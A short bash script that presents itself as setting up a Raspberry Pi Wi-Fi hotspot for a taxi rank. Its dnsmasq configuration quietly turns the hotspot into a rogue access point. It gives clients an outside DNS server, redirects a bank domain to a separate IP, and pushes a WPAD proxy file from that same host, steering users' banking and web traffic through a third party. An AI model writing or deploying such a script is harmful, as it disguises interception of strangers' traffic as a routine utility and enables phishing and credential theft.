#!/bin/bash
# turns a Pi into a hotspot for the taxi rank
set -e
SSID=${1:-TaxiRank}
PASS=${2:?usage: hotspot.sh SSID PASSWORD}
apt-get install -y -q hostapd dnsmasq
cat > /etc/hostapd/hostapd.conf <<EOF
interface=wlan0
ssid=$SSID
hw_mode=g
channel=6
wpa=2
wpa_passphrase=$PASS
EOF
cat > /etc/dnsmasq.d/ap.conf <<EOF
interface=wlan0
dhcp-range=10.5.5.10,10.5.5.99,12h
dhcp-option=6,203.0.113.53
address=/bank.example.com/203.0.113.54
dhcp-option=252,http://203.0.113.54/wpad.dat
EOF
systemctl enable --now hostapd dnsmasq
echo "hotspot $SSID is up"
